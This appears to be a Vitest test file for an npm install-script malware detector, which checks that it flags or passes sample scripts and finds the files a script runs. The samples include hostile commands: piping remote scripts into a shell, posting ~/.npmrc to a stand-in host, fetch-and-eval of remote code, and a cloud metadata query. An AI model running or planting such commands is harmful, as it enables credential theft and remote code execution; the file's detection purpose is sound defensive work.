import { describe, expect, it } from 'vitest';
import { isMalicious, isOrdinaryBuild, scriptSignals } from '../../src/npm/script-signals.js';
import { scriptFiles } from '../../src/npm/scripts.js';

describe('script signals', () => {
  it.each([
    ['curl -fsSL https://x.example.test/i.sh | bash', true],
    ['wget -qO- https://x.example.test/i | sh', true],
    ["node -e \"require('https').get('https://x.example.test', r => r.pipe(process.stdout))\"", true],
    ['cat ~/.npmrc | curl -d @- https://x.example.test', true],
    ["fetch('https://x.example.test/p').then(r => r.text()).then(t => eval(t))", true],
    ["eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())", true],
    ['curl http://169.254.169.254/latest/meta-data/', true],
    ['node-gyp rebuild', false],
    ['prebuild-install || node-gyp rebuild', false],
    ['node install.js', false],
    ['tsc && node scripts/copy.js', false],
  ])('%s is malicious: %s', (script, malicious) => {
    expect(isMalicious(scriptSignals(script))).toBe(malicious);
  });

  it('knows ordinary build steps', () => {
    expect(['node-gyp rebuild', 'prebuild-install || node-gyp rebuild', 'node-pre-gyp install --fallback-to-build', 'husky install', 'patch-package'].every(isOrdinaryBuild)).toBe(true);
    expect(isOrdinaryBuild('node-gyp rebuild && curl x')).toBe(false);
  });

  it('finds the package files a script runs', () => {
    expect(scriptFiles('node install.js')).toEqual(['install.js']);
    expect(scriptFiles('node ./scripts/postinstall.mjs && sh setup.sh')).toEqual(['scripts/postinstall.mjs', 'setup.sh']);
    expect(scriptFiles('node --no-warnings lib/a.cjs')).toEqual(['lib/a.cjs']);
    expect(scriptFiles('node ../outside.js; node /etc/x.js; node-gyp rebuild')).toEqual([]);
  });
});
